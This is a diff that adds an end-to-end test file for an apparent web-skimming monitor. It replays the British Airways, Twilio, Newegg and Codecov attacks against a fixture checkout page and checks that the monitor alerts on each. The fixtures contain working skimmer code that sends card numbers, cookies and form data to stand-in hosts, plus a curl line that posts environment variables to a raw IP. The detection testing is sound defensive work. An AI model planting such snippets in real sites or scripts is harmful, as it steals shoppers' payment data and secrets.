@@ -1,0 +1,143 @@
+// End to end: real Chromium against the fixture shop; each attack must raise the right alert.
+
+import assert from 'node:assert/strict';
+import { after, before, describe, it } from 'node:test';
+import { APP_JS, CHECKOUT_HTML, LOADER_JS, PAY_SDK_JS, WIDGET_JS } from '../fixtures/shop.js';
+import { baselinedShop, type Scenario, type ScanJson } from './scenario.js';
+
+function only(json: ScanJson, type: string) {
+  return json.alerts.filter((a) => a.type === type);
+}
+
+describe('attacks on a baselined checkout page', () => {
+  let s: Scenario;
+  before(async () => { s = await baselinedShop({ withResource: true }); });
+  after(async () => { await s.close(); });
+
+  it('stays quiet on an unchanged rescan', async () => {
+    const { result, json } = await s.scan();
+    assert.equal(result.code, 0, result.stderr);
+    assert.deepEqual(json.alerts, []);
+    assert.equal(json.exitCode, 0);
+  });
+
+  it('flags lines appended to a first-party external script (British Airways)', async () => {
+    const skimmer = `\nwindow.addEventListener('load', function () { document.getElementById('pay').addEventListener('mouseup', function () {\n  var d = JSON.stringify({ n: document.forms[0].cardnumber.value });\n  setTimeout(function () { navigator.sendBeacon('http://shop-analytics.test:${s.site.port}/gateway/api', d); }, 500); }); });\n`;
+    s.site.set('shop.test', '/static/app.js', APP_JS + skimmer);
+    const { result, json } = await s.scan();
+    assert.equal(result.code, 1);
+    const changed = only(json, 'script.changed');
+    assert.equal(changed.length, 1, JSON.stringify(json.alerts, null, 2));
+    assert.match(changed[0]!.subject, /\/static\/app\.js$/);
+    assert.equal(changed[0]!.severity, 'high', 'a change on a payment page is at least high');
+    assert.equal(changed[0]!.status, 'open');
+    for (const field of ['id', 'type', 'severity', 'status', 'target', 'page', 'profile', 'subject', 'summary', 'firstSeen', 'lastSeen']) {
+      assert.ok(field in changed[0]!, `alert has ${field}`);
+    }
+    const shown = await s.cli('show', String(changed[0]!.id));
+    assert.match(shown.stdout, /\+.*sendBeacon/, 'show prints the added lines as a diff');
+
+    const again = await s.scan();
+    assert.equal(again.result.code, 0, 'seeing the same unapproved change again raises nothing new');
+    const listed = JSON.parse((await s.cli('alerts', '--json')).stdout) as ScanJson;
+    const same = listed.alerts.filter((a) => a.id === changed[0]!.id);
+    assert.equal(same.length, 1);
+    assert.ok(same[0]!.lastSeen > changed[0]!.lastSeen, 'lastSeen moves forward');
+    assert.equal(listed.alerts.filter((a) => a.type === 'script.changed').length, 1, 'no duplicate alert');
+
+    const approve = await s.cli('approve', String(changed[0]!.id), '--note', 'test', '--by', 'bob');
+    assert.equal(approve.code, 0);
+    s.site.set('shop.test', '/static/app.js', APP_JS);
+  });
+
+  it('rates a changed third-party script at a versioned URL critical (Twilio)', async () => {
+    s.site.set('cdn.test', '/libs/widget-2.4.1.min.js', `${WIDGET_JS};(function(){var i=new Image();i.src='http://cdn-metrics.test:${s.site.port}/p?d='+btoa(document.cookie)})();`);
+    const { json } = await s.scan();
+    const changed = only(json, 'script.changed');
+    assert.equal(changed.length, 1);
+    assert.match(changed[0]!.subject, /widget-2\.4\.1\.min\.js$/);
+    assert.equal(changed[0]!.severity, 'critical');
+    s.site.set('cdn.test', '/libs/widget-2.4.1.min.js', WIDGET_JS);
+    await s.cli('approve', '--all', '--by', 'alice');
+  });
+
+  it('reports a new inline script (Newegg)', async () => {
+    const inline = `<script>document.getElementById('checkout').addEventListener('submit', function () { fetch('http://neweggstats.test:${s.site.port}/c', { method: 'POST', body: new FormData(this) }); });</script>`;
+    s.site.set('shop.test', '/checkout', { body: CHECKOUT_HTML.replace('</body>', `${inline}</body>`), headers: { 'content-security-policy': "default-src 'self'; script-src 'self' 'unsafe-inline' 'unsafe-eval' http://*.test:{{PORT}}; connect-src *; frame-src *", 'x-frame-options': 'DENY' } });
+    const { json } = await s.scan();
+    const added = only(json, 'script.added');
+    assert.equal(added.length, 1, JSON.stringify(json.alerts, null, 2));
+    assert.equal(added[0]!.details.kind, 'inline');
+    assert.match(added[0]!.subject, /^inline:[0-9a-f]{12}$/);
+    assert.equal(added[0]!.severity, 'high');
+    assert.equal(only(json, 'script.removed').length, 0);
+    await s.cli('approve', '--all', '--by', 'alice');
+  });
+
+  it('reports a modified inline script as one change, not a removal and an addition', async () => {
+    const base = (await import('../fixtures/shop.js')).CHECKOUT_HTML;
+    const modified = base.replace("window.dataLayer.push({ page: 'checkout' });", "window.dataLayer.push({ page: 'checkout' }); new Image().src = 'http://gtm-cdn.test:" + s.site.port + "/c?d=' + btoa(location.href);");
+    const inline = `<script>document.getElementById('checkout').addEventListener('submit', function () { fetch('http://neweggstats.test:${s.site.port}/c', { method: 'POST', body: new FormData(this) }); });</script>`;
+    s.site.set('shop.test', '/checkout', { body: modified.replace('</body>', `${inline}</body>`), headers: { 'content-security-policy': "default-src 'self'; script-src 'self' 'unsafe-inline' 'unsafe-eval' http://*.test:{{PORT}}; connect-src *; frame-src *", 'x-frame-options': 'DENY' } });
+    const { json } = await s.scan();
+    const changed = only(json, 'script.changed');
+    assert.equal(changed.length, 1, JSON.stringify(json.alerts, null, 2));
+    assert.equal(changed[0]!.details.kind, 'inline');
+    assert.equal(only(json, 'script.added').length, 0);
+    assert.equal(only(json, 'script.removed').length, 0);
+    await s.cli('approve', '--all', '--by', 'alice');
+  });
+
+  it('reports a script injected by another script, naming the injector', async () => {
+    s.site.set('shop.test', '/static/loader.js', `${LOADER_JS}\n(function () { var x = document.createElement('script'); x.src = 'http://jquery-cdn.test:{{PORT}}/jquery.min.js'; document.body.appendChild(x); })();`);
+    s.site.set('jquery-cdn.test', '/jquery.min.js', 'window.__q = 1;');
+    const { json } = await s.scan();
+    const added = only(json, 'script.added').filter((a) => /jquery\.min\.js$/.test(a.subject));
+    assert.equal(added.length, 1, JSON.stringify(json.alerts, null, 2));
+    assert.equal(added[0]!.details.kind, 'dynamic');
+    const initiator = added[0]!.details.initiator as { url: string };
+    assert.match(initiator.url, /\/static\/loader\.js$/);
+    assert.match(added[0]!.summary, /inserted by .*loader\.js/);
+    await s.cli('approve', '--all', '--by', 'alice');
+  });
+
+  it('reports a changed script inside a cross-origin iframe', async () => {
+    s.site.set('pay.test', '/sdk/pay-sdk.js', `${PAY_SDK_JS}\ndocument.addEventListener('input', function (e) { window.__stolen = e.target.value; });`);
+    const { json } = await s.scan();
+    const changed = only(json, 'script.changed');
+    assert.equal(changed.length, 1, JSON.stringify(json.alerts, null, 2));
+    assert.match(changed[0]!.subject, /^\[frame http:\/\/pay\.test:\d+\/frame\] .*pay-sdk\.js$/);
+    await s.cli('approve', '--all', '--by', 'alice');
+  });
+
+  it('reports a dropped CSP header', async () => {
+    s.site.set('shop.test', '/checkout', { body: CHECKOUT_HTML, headers: { 'x-frame-options': 'DENY' } });
+    const { json } = await s.scan();
+    const header = only(json, 'header.changed');
+    assert.equal(header.length, 1, JSON.stringify(json.alerts, null, 2));
+    assert.equal(header[0]!.subject, 'content-security-policy');
+    assert.equal(header[0]!.severity, 'high');
+    assert.match(header[0]!.summary, /removed/);
+    await s.cli('approve', '--all', '--by', 'alice');
+  });
+
+  it('reports a changed hosted resource (Codecov)', async () => {
+    s.site.set('downloads.test', '/bash', '#!/bin/sh\necho "uploading coverage"\ncurl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" http://104.248.0.1/upload/v2 || true\ncurl -s https://uploads.test/upload\n');
+    const { json } = await s.scan('--target', 'uploader');
+    const changed = only(json, 'resource.changed');
+    assert.equal(changed.length, 1, JSON.stringify(json.alerts, null, 2));
+    assert.equal(changed[0]!.target, 'uploader');
+    assert.ok(['high', 'critical'].includes(changed[0]!.severity));
+  });
+
+  it('reports a new exfiltration destination and the script that contacted it', async () => {
+    s.site.set('shop.test', '/static/app.js', `${APP_JS}\nfetch('http://baways.test:{{PORT}}/gateway/app/dataprocessing/api', { method: 'POST', body: JSON.stringify({ c: 1 }), mode: 'no-cors' });`);
+    s.site.set('baways.test', '/gateway/app/dataprocessing/api', 'ok');
+    const { json } = await s.scan('--target', 'checkout');
+    const connection = only(json, 'connection.added');
+    assert.equal(connection.length, 1, JSON.stringify(json.alerts, null, 2));
+    assert.match(connection[0]!.subject, /^baways\.test:\d+$/);
+    assert.match(connection[0]!.summary, /static\/app\.js/);
+    assert.equal(connection[0]!.severity, 'high');
+  });
+});
